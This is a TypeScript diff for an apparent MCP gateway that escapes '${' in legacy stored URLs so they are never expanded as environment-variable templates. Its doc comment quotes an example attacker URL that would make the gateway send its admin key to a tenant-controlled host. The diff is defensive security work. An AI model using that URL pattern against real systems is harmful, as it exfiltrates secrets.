@@ -29,6 +29,17 @@ const SERVER_FACTS = new Map<string, ServerFact>([
   ['McpServerHealthChanged', 'health'],
 ]);
 
+/**
+ * A URL recorded without a template (v1 to v5, or a reconfiguration v1 or v2) is a URL to use as
+ * written, never resolved: before 2026-12-11 "${" was nothing to the gateway, and any tenant's
+ * admin could register `https://their.host/?k=${env:OPENMCP_ADMIN_KEY}` (a query keeps "${" as
+ * written). Its "$" percent-encoded (what the server reads is the same), so no process takes it for
+ * a template (isUrlTemplate) and sends that host the gateway's variable.
+ */
+function literalUrl(url: string | undefined): string | undefined {
+  return url?.includes('${') ? url.replaceAll('${', '%24{') : url;
+}
+
 /** A server's settings as McpServerRegistered and McpServerReconfigured record them (every absent one unset). */
 function settingsOf(d: Record<string, unknown>): Pick<ServerState, 'transport' | 'command' | 'args' | 'envKeys' | 'url' | 'limits' | 'headers' | 'env' | 'egress'> {
   return {
@@ -36,7 +47,8 @@ function settingsOf(d: Record<string, unknown>): Pick<ServerState, 'transport' |
     command: d.command as string | undefined,
     args: d.args as string[] | undefined,
     envKeys: d.envKeys as string[] | undefined,
-    url: d.url as string | undefined,
+    // A URL that refers to the environment (v6) as written, to connect with; any other with its credentials masked.
+    url: typeof d.urlTemplate === 'string' ? d.urlTemplate : literalUrl(d.url as string | undefined),
     ...(d.limits ? { limits: d.limits as McpServerLimits } : {}),
     ...(d.headers ? { headers: d.headers as Record<string, string> } : {}),
     ...(d.env ? { env: d.env as Record<string, string> } : {}),
